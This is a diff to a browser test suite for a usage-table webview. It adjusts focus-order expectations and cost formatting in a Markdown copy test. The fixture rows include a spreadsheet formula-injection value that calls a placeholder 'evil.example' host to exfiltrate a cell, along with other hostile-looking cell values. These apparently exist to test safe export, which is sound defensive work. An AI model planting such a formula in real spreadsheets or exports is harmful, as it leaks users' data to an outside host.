@@ -235,7 +235,7 @@ describe('usage table webview', function () {
     await page.bringToFront();
     await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
     const stops: string[] = [];
-    for (let i = 0; i < 11; i++) {
+    for (let i = 0; i < 12; i++) {
       await page.keyboard.press('Tab');
       stops.push(await focused());
     }
@@ -249,6 +249,7 @@ describe('usage table webview', function () {
       'File order',
       'Per-model totals',
       'Filter (model, provider, source…)',
+      'Columns…',
       'grid',
       'Name',
     ]);
@@ -332,9 +333,9 @@ describe('usage table webview', function () {
     assert.deepEqual(copies[1].text.split('\n'), [
       '| Name | Provider | Source | BYOK | Requests | Input tokens | Cost (USD) | Share of requests | Cost per 1k requests |',
       '| --- | --- | --- | --- | ---: | ---: | ---: | ---: | ---: |',
-      '| =HYPERLINK("https://evil.example/?q="&A1,"Click") | @evil | n/a | No | 300 | n/a | $0.10 | 0.6% | $0.33 |',
-      '| -2+3 | evil \\| pipe   tab | n/a | No | 30 | n/a | -$1.50 | 0.1% | $6.67 |',
-      '| Total |  |  |  | 330 | n/a | -$1.40 | 0.7% | -$4.24 |',
+      '| =HYPERLINK("https://evil.example/?q="&A1,"Click") | @evil | n/a | No | 300 | n/a | $0.10 | 0.6% | $0.333333 |',
+      '| -2+3 | evil \\| pipe   tab | n/a | No | 30 | n/a | -$1.50 | 0.1% | $6.666667 |',
+      '| Total |  |  |  | 330 | n/a | -$1.40 | 0.7% | -$4.242424 |',
       '',
     ]);
   });
